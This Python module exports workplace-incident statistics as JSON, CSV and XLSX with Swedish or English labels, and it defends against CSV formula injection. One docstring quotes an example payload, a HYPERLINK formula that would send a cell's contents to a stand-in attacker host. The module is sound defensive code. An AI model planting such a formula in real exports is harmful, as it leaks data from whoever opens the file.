"""Statistics tables as JSON, CSV and XLSX, with Swedish or English labels (``lang``).

JSON keeps the codes (``category: threat``) and adds their labels (``category_label``); CSV and
XLSX are for people, so their cells hold the labels and their headers are in the chosen language.
XLSX has one sheet per table, plus one with the filters, totals and notes.
"""

from __future__ import annotations

import io
import math
from typing import Any

from flask import Response

from incidents.domain import (
    POLICE_OUTCOME_LABELS,
    RATING3_LABELS,
    SUPPORT_LABELS,
    Label,
    PoliceOutcome,
    Rating3,
    SupportType,
)
from incidents.stats import pd
from incidents.stats.incidents import LABELS, StatsTable


def _support_headers() -> dict[str, Label]:
    headers = {
        "support_offered": Label("Stöd erbjudet", "Support offered"),
        "support_accepted": Label("Stöd accepterat", "Support accepted"),
        "support_delivered": Label("Stöd givet", "Support delivered"),
        "support_declined": Label("Stöd avböjt", "Support declined"),
        "evaluations": Label("Utvärderingar", "Evaluations"),
        "acknowledged": Label("Mottagna", "Acknowledged"),
        "acknowledged_on_time": Label("Mottagna i tid", "Acknowledged on time"),
        "check_ins_due": Label("Uppföljningssamtal som skulle ha hållits", "Check-ins due"),
        "check_ins_on_time": Label("Uppföljningssamtal i tid", "Check-ins on time"),
        "police_decisions_due": Label("Polisbeslut att fatta", "Police decisions due"),
        "police_decisions_on_time": Label("Polisbeslut i tid", "Police decisions on time"),
        "share_support_offered": Label("Andel med stöd erbjudet", "Share offered support"),
        "share_support_accepted": Label("Andel accepterat", "Share accepted"),
        "share_support_delivered": Label("Andel givet", "Share delivered"),
        "share_acknowledged_on_time": Label("Andel mottagna i tid", "Share acknowledged on time"),
        "share_check_ins_on_time": Label("Andel uppföljningar i tid", "Share check-ins on time"),
        "share_police_decisions_on_time": Label("Andel polisbeslut i tid",
                                                "Share police decisions on time"),
        "felt_supported_mean": Label("Kände stöd, medel (1–5)", "Felt supported, mean (1–5)"),
        "median_days_to_first_support": Label("Median dagar till första stöd",
                                              "Median days to first support"),
    }
    for rating in Rating3:
        label = RATING3_LABELS[rating]
        headers[f"sufficient_{rating.value}"] = Label(f"Tillräckligt: {label.sv}",
                                                      f"Sufficient: {label.en}")
        headers[f"relevant_{rating.value}"] = Label(f"Relevant: {label.sv}",
                                                    f"Relevant: {label.en}")
    for support_type in SupportType:
        label = SUPPORT_LABELS[support_type]
        for what, sv, en in (("offered", "erbjudet", "offered"),
                             ("accepted", "accepterat", "accepted"),
                             ("delivered", "givet", "delivered")):
            headers[f"{support_type.value}_{what}"] = Label(f"{label.sv}: {sv}",
                                                            f"{label.en}: {en}")
    return headers


SUPPORT_HEADERS = _support_headers()
HEADERS: dict[str, Label] = {
    "category": Label("Form", "Form"),
    "unit_id": Label("Enhets-id", "Unit id"),
    "unit_name": Label("Enhet", "Unit"),
    "month": Label("Månad", "Month"),
    "tertial": Label("Tertial", "Tertial"),
    "year": Label("År", "Year"),
    "location": Label("Plats", "Location"),
    "perpetrator": Label("Gärningsperson", "Perpetrator"),
    "anonymous": Label("Anonym", "Anonymous"),
    "count": Label("Antal", "Count"),
    "rate_per_100": Label("Per 100 anställda", "Per 100 employees"),
    "suppressed": Label("Undertryckt", "Suppressed"),
    "incidents": Label("Händelser", "Incidents"),
    "flagged": Label("Flaggade för anmälan", "Flagged for reporting"),
    "flagged_for_consideration": Label("Flaggade för övervägande", "Flagged for consideration"),
    "decided": Label("Beslut fattade", "Decisions made"),
    "reported": Label("Polisanmälda", "Reported"),
    "filed": Label("Anmälan gjord", "Filed"),
    "filed_by_employer": Label("Anmälda av arbetsgivaren", "Filed by the employer"),
    "flagged_not_reported": Label("Flaggade men inte anmälda", "Flagged, not reported"),
    "median_days_to_filing": Label("Median dagar till anmälan", "Median days to filing"),
    "share_reported": Label("Andel anmälda", "Share reported"),
    "share_of_flagged_reported": Label("Andel av flaggade anmälda", "Share of flagged reported"),
    "share_filed_by_employer": Label("Andel anmälda av arbetsgivaren", "Share filed by employer"),
    **SUPPORT_HEADERS,
    **{
        f"outcome_{code}": Label(f"Utfall: {label.sv}", f"Outcome: {label.en}")
        for code, label in ((o.value, POLICE_OUTCOME_LABELS[o]) for o in PoliceOutcome)
    },
}
FRACTIONS = {
    "felt_supported_mean", "median_days_to_first_support", "rate_per_100",
    "median_days_to_filing", "share_reported", "share_of_flagged_reported",
    "share_filed_by_employer", *[k for k in SUPPORT_HEADERS if k.startswith("share_")],
}
YES_NO = {True: Label("ja", "yes"), False: Label("nej", "no")}
SHEET_NAMES = {
    "incidents": Label("Händelser", "Incidents"),
    "police": Label("Polisanmälan", "Police reports"),
    "support": Label("Stöd", "Support"),
    "dark_figure": Label("Mörkertal", "Dark figure"),
    "about": Label("Om", "About"),
}


def plain(value: Any) -> Any:
    """numpy scalars and NaN as JSON values."""
    if value is None:
        return None
    item = getattr(value, "item", None)
    if callable(item):
        value = item()
    if isinstance(value, float) and math.isnan(value):
        return None
    return value


def _label(key: str, code: Any, lang: str) -> str | None:
    labels, enum = LABELS[key]
    if code is None:
        return None
    return getattr(labels[enum(code)], lang)


def json_rows(table: StatsTable, lang: str) -> list[dict[str, Any]]:
    tree_names = table.filters.get("_unit_names", {})
    rows = []
    for record in table.rows.to_dict(orient="records"):
        row: dict[str, Any] = {}
        for key in table.keys:
            value = plain(record[key])
            if key == "unit":
                row["unit_id"] = int(value)
                row["unit_name"] = tree_names.get(int(value))
            elif key in LABELS:
                row[key] = value
                row[f"{key}_label"] = _label(key, value, lang)
            elif key == "anonymous":
                row[key] = bool(value)
            elif key == "year":
                row[key] = int(value)
            else:
                row[key] = value
        for column in table.values:
            value = plain(record[column])
            # Counts may come back from pandas as floats (2.0) after a merge.
            if column not in FRACTIONS and isinstance(value, float):
                value = int(value)
            row[column] = value
        hidden = record["suppressed"]
        row["suppressed"] = list(hidden) if isinstance(hidden, list) else bool(hidden)
        rows.append(row)
    return rows


def json_body(table: StatsTable, lang: str) -> dict[str, Any]:
    filters = {k: v for k, v in table.filters.items() if not k.startswith("_")}
    return {
        "filters": {**filters, "lang": lang},
        "rows": json_rows(table, lang),
        "totals": {k: plain(v) for k, v in table.totals.items()},
        "suppression": table.suppression,
        "notes": table.notes,
    }


def people_frame(table: StatsTable, lang: str) -> pd.DataFrame:
    """The rows with labels in place of codes and headers in ``lang``."""
    records = []
    for row in json_rows(table, lang):
        record = {}
        for key, value in row.items():
            if key.endswith("_label"):
                continue
            if key in LABELS:
                value = row[f"{key}_label"]
            elif isinstance(value, bool):
                value = getattr(YES_NO[value], lang)
            elif isinstance(value, list):
                value = ", ".join(getattr(HEADERS[v], lang) for v in value)
            record[getattr(HEADERS[key], lang)] = value
        records.append(record)
    columns = [getattr(HEADERS[k], lang) for k in _columns(table)]
    frame = pd.DataFrame(records, columns=columns)
    for key in table.values:
        if key not in FRACTIONS:
            # Whole numbers stay whole beside a blank (suppressed) cell.
            frame[getattr(HEADERS[key], lang)] = frame[getattr(HEADERS[key], lang)].astype(
                "Int64")
    return frame


def _columns(table: StatsTable) -> list[str]:
    columns = []
    for key in table.keys:
        columns += ["unit_id", "unit_name"] if key == "unit" else [key]
    return columns + [*table.values, "suppressed"]


def _about(table: StatsTable, lang: str) -> pd.DataFrame:
    body = json_body(table, lang)
    lines = [(k, str(v)) for k, v in body["filters"].items()]
    lines += [(f"totals.{k}", str(v)) for k, v in body["totals"].items()]
    lines += [("note", note) for note in body["notes"]]
    return pd.DataFrame(lines, columns=["", ""])


def _filename(table: StatsTable, extension: str) -> str:
    return f"{table.name}_{table.filters['from']}_{table.filters['to']}.{extension}"


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What makes a spreadsheet program read a cell as a formula (OWASP, CSV injection), and the
# full-width forms some locales read the same way.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: Any) -> Any:
    """Text that a spreadsheet would run as a formula (a unit named
    ``=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")``) gets a leading single quote, so
    it is shown as the text it is; anything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """Every text cell and header of ``frame`` neutralised; numbers stay numbers."""
    frame = frame.copy()
    frame.columns = [neutralise(column) for column in frame.columns]
    for position in range(frame.shape[1]):  # by position: the "About" sheet's two are both ""
        column = frame.iloc[:, position]
        if not pd.api.types.is_numeric_dtype(column):
            frame.isetitem(position, column.map(neutralise))
    return frame


def csv_text(frame: pd.DataFrame) -> str:
    """UTF-8 with a byte-order mark, so spreadsheet programs read å, ä and ö right; no cell
    can be read as a formula. Lines end in CRLF (RFC 4180), so a cell holding a carriage
    return is quoted: unquoted, it started a new row with whatever followed it."""
    return "\ufeff" + _neutralised(frame).to_csv(index=False, lineterminator="\r\n")


def _to_sheet(writer: pd.ExcelWriter, frame: pd.DataFrame, sheet_name: str, **kwargs) -> None:
    """A frame on its own sheet, text cells neutralised and typed as text (openpyxl types a
    string that starts with = as a formula): no cell of a workbook is a formula."""
    _neutralised(frame).to_excel(writer, sheet_name=sheet_name, index=False, **kwargs)
    for row in writer.book[sheet_name].iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"


def csv_response(table: StatsTable, lang: str) -> Response:
    return Response(
        csv_text(people_frame(table, lang)),
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{_filename(table, "csv")}"'},
    )


def xlsx_bytes(tables: list[StatsTable], lang: str, dark_figure: dict | None = None) -> bytes:
    """One sheet per table, the dark figure's estimates if given, and an "About" sheet."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for table in tables:
            name = getattr(SHEET_NAMES.get(table.name, Label(table.name, table.name)), lang)
            _to_sheet(writer, people_frame(table, lang), name[:31])
        if dark_figure is not None:
            _to_sheet(writer, dark_figure_frame(dark_figure, lang),
                      getattr(SHEET_NAMES["dark_figure"], lang))
        about = _about(tables[0], lang) if tables else _dark_figure_about(dark_figure or {})
        _to_sheet(writer, about, getattr(SHEET_NAMES["about"], lang), header=False)
    return buffer.getvalue()


def xlsx_response(table: StatsTable, lang: str) -> Response:
    return Response(
        xlsx_bytes([table], lang),
        mimetype=XLSX,
        headers={"Content-Disposition": f'attachment; filename="{_filename(table, "xlsx")}"'},
    )


# -- the dark figure: nested estimates, flattened to one row per figure -----------------------

ESTIMATE_HEADERS = {
    "estimate": Label("Skattning", "Estimate"),
    "form": Label("Form", "Form"),
    "figure": Label("Mått", "Figure"),
    "value": Label("Värde", "Value"),
    "ci_low": Label("Nedre gräns 95 %", "Lower 95 %"),
    "ci_high": Label("Övre gräns 95 %", "Upper 95 %"),
    "method": Label("Metod", "Method"),
}
ESTIMATE_NAMES = {
    "survey": Label("Enkät: anmälningsbenägenhet", "Survey reporting rate"),
    "two_registers": Label("Två register (Chapman)", "Two registers (Chapman)"),
    "police": Label("Polisanmälan", "Police reports"),
}
_NOT_FIGURES = {"method", "note", "suppressed", "label", "category", "assumptions", "survey",
                "numerator", "denominator"}


def _figures(block: dict, path: str = "") -> list[tuple[str, Any, Any, Any]]:
    """(figure, value, lower, upper) for every number in a block, nested ones by dotted path."""
    found = []
    for key, value in block.items():
        if key in _NOT_FIGURES:
            continue
        name = f"{path}{key}"
        if isinstance(value, dict) and ("value" in value or "ci95" in value):
            interval = value.get("ci95") or [None, None]
            found.append((name, value.get("value"), interval[0], interval[1]))
        elif isinstance(value, dict):
            found += _figures(value, f"{name}.")
        elif isinstance(value, bool):
            continue
        elif isinstance(value, int | float) or value is None:
            found.append((name, value, None, None))
    return found


def dark_figure_frame(body: dict, lang: str) -> pd.DataFrame:
    records = []
    for estimate in ("survey", "two_registers", "police"):
        block = body.get(estimate)
        if not block:
            continue
        name = getattr(ESTIMATE_NAMES[estimate], lang)
        parts = [(form.get("label", {}).get(lang, form.get("category")), form)
                 for form in block.get("forms") or []] if estimate == "survey" else []
        parts = parts or [("", block)]
        if estimate == "survey":
            parts.insert(0, ("", {"respondents": block.get("respondents")}))
        for form, part in parts:
            for figure, value, low, high in _figures(part):
                records.append({"estimate": name, "form": form, "figure": figure,
                                "value": value, "ci_low": low, "ci_high": high,
                                "method": block.get("method")})
    frame = pd.DataFrame(records, columns=list(ESTIMATE_HEADERS))
    return frame.rename(columns={k: getattr(v, lang) for k, v in ESTIMATE_HEADERS.items()})


def _dark_figure_about(body: dict) -> pd.DataFrame:
    about = [(k, str(v)) for k, v in body.get("filters", {}).items()]
    for estimate in ("survey", "two_registers", "police"):
        block = body.get(estimate) or {}
        about += [(f"{estimate}.note", block["note"])] if block.get("note") else []
        about += [(f"{estimate}.assumption", a) for a in block.get("assumptions") or []]
    return pd.DataFrame(about, columns=["", ""])


def dark_figure_response(body: dict, fmt: str, lang: str) -> Response:
    filters = body.get("filters", {})
    stem = f"dark-figure_{filters.get('from', '')}_{filters.get('to', '')}"
    if fmt == "csv":
        return Response(csv_text(dark_figure_frame(body, lang)), mimetype="text/csv",
                        headers={"Content-Disposition": f'attachment; filename="{stem}.csv"'})
    return Response(
        xlsx_bytes([], lang, dark_figure=body),
        mimetype=XLSX,
        headers={"Content-Disposition": f'attachment; filename="{stem}.xlsx"'},
    )
